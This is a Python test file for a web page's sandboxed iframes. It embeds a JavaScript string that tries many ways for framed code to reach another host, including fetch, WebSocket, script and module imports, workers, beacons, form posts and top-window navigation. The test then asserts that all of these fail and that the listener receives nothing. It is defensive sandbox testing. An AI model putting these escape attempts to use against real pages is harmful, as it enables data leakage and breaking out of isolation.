"""Whatever should ever run in a frame: it reaches nobody, in no engine, and learns nothing of the page."""

import pytest

from tests.page.engines.conftest import TROUBLE, Person
from tests.page.engines.engine import wait_until
from tests.page.markdown.leak_check import LeakListener

# Every way out that code in a frame has; each tells how it went. The last ones leave the frame.
HOSTILE = """
const outcome = {};
async function attempt(name, act) {
  const isLong = new Promise((_, reject) => setTimeout(reject, 1000));
  outcome[name] = await Promise.race([Promise.resolve().then(act), isLong]).then(() => "done", () => "failed");
}
const until = (thing, good) => new Promise((resolve, reject) => {
  Object.assign(thing, { [good]: resolve, onerror: reject });
});
const load = (tag, more) => {
  const element = document.createElement(tag);
  const end = until(element, "onload");
  document.head.append(Object.assign(element, more));
  return end;
};
const attemptsAt = (host) => [
  attempt("fetch " + host, () => fetch(host + "/fetch", { mode: "no-cors" })),
  attempt("request " + host, () => {
    const request = new XMLHttpRequest();
    request.open("GET", host + "/request");
    request.send();
    return until(request, "onload");
  }),
  attempt("events " + host, () => until(new EventSource(host + "/events"), "onopen")),
  attempt("socket " + host, () => until(new WebSocket(host.replace("http", "ws") + "/socket"), "onopen")),
  attempt("script " + host, () => load("script", { src: host + "/script.js" })),
  attempt("sheet " + host, () => load("link", { rel: "stylesheet", href: host + "/sheet.css" })),
  attempt("font " + host, () => new FontFace("x", "url(" + host + "/font.woff2)").load()),
  attempt("import " + host, () => import(host + "/import.js")),
  attempt("worker " + host, () => until(new Worker(URL.createObjectURL(new Blob([`
    fetch("${host}/worker", { mode: "no-cors" }).then(() => postMessage(1))`]))), "onmessage")),
];
addEventListener("message", async ({ data }) => {
  if (!data.hosts) return;
  const [host] = data.hosts;
  document.body.innerHTML = `<iframe src="${host}/frame"></iframe><object data="${host}/object"></object>
    <video src="${host}/video"></video><p style="background: url(${host}/background.png)">x</p>
    <form method="post" action="${host}/form"><button></button></form>`;
  if (data.mayShowPictures) document.querySelector("p").remove();
  navigator.sendBeacon?.(host + "/beacon", "x");
  await Promise.all([
    ...data.hosts.flatMap(attemptsAt),
    ...(data.mayShowPictures ? [] : [attempt("picture", () => load("img", { src: host + "/picture.png" }))]),
    ...(data.mayEvaluate ? [] : [attempt("eval", () => (0, eval)("1"))]),
    attempt("storage", () => localStorage.length),
    attempt("parent", () => parent.document.title),
    attempt("top", () => { top.location.href = host + "/top"; throw new Error("nothing tells whether it did"); }),
    attempt("window", () => { if (!open(host + "/window")) throw new Error("blocked"); }),
  ]);
  document.querySelector("button").click();
  parent.postMessage({ outcome }, "*");
  location.href = host + "/gone";
});
parent.postMessage({ isReady: true }, "*");
"""
RUN_IN_FRAME = """(name, code, message) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.setAttribute("sandbox", "allow-scripts");
  frame.src = `frames/${name}.html`;
  addEventListener("message", ({ source, data }) => {
    if (source !== frame.contentWindow) return;
    const answer = data.isEmpty ? new Blob([code], { type: "text/javascript" }) : data.isReady ? message : null;
    if (answer) source.postMessage(answer, "*");
    if (data.outcome) resolve(data.outcome);
  });
  document.body.append(frame);
})"""


@pytest.mark.parametrize("name", ["diagram", "image", "preview", "run"])
def test_whatever_runs_in_a_frame_reaches_nobody(person: Person, other_host: LeakListener, name: str) -> None:
    may = {"mayShowPictures": name == "image", "mayEvaluate": name in ("preview", "run")}
    message = {"hosts": [other_host.url, person.site.url], **may}
    outcome = person.engine.run(RUN_IN_FRAME, name, HOSTILE, message)
    assert len(outcome) >= 20
    assert {act for act, how in outcome.items() if how == "done"} == set()
    # That it could not leave either, the page's own policy tells.
    wait_until(person.engine, f"() => {TROUBLE}.includes('frame-src')")
    assert other_host.heard == []
    assert person.engine.run("() => location.origin") == person.site.url
    person.engine.run(f"() => {{ {TROUBLE} = ''; }}")
